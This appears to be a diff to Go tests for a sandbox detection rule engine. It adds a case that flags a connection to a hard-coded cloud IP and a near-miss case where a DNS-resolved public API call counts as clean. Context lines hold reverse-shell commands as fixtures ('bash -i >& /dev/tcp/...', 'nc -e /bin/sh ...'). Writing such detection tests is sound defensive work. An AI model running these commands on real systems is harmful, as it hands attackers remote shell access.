@@ -241,6 +241,10 @@ func TestRules(t *testing.T) {
 			build: func() *tl {
 				return newTL().bash("bash -i >& /dev/tcp/203.0.113.7/4444 0>&1", "").connect("203.0.113.7", 4444)
 			}},
+		{name: "cloud address typed in, no DNS answer gave it", want: []string{"SBX-NET-001"},
+			build: func() *tl {
+				return newTL().bash("python3 fetch.py", "").child("python3", "fetch.py").connect("104.18.22.7", 443)
+			}},
 		{name: "nc -e reverse shell", want: []string{"SBX-SHELL-002"},
 			build: func() *tl { return newTL().bash("nc -e /bin/sh relay.example.org 443", "") }},
 		{name: "python socket dup2 pty", want: []string{"SBX-SHELL-003"},
@@ -426,6 +430,13 @@ func TestNearMisses(t *testing.T) {
 			return newTL().bash("curl -s https://api.github.com/repos/golang/go", `{"stargazers_count": 120000}`).
 				child("curl", "-s", "https://api.github.com/repos/golang/go").connect("198.18.0.12", 443).
 				dns("api.github.com.").http("GET", "https://api.github.com/repos/golang/go", "")
+		}},
+		{name: "public API call to an address the jail's DNS gave", want: rules.Clean, build: func() *tl {
+			b := newTL().bash("curl -s https://api.weather.com/v3/forecast", `{"temp": 12}`).
+				child("curl", "-s", "https://api.weather.com/v3/forecast")
+			b.add(trace.SourceDNS, trace.TypeDNSQuery, 0, &trace.DNSQuery{Transport: "udp", Name: "api.weather.com.", QType: "A",
+				Rcode: "NOERROR", Answers: []string{"A 104.18.22.7"}})
+			return b.connect("104.18.22.7", 443).http("GET", "https://api.weather.com/v3/forecast", "")
 		}},
 		{name: "git reads its own config", want: rules.Clean, build: func() *tl {
 			return newTL().bash("git status", "").child("git", "status").read(home + "/.gitconfig").read(home + "/proj/.git/config")
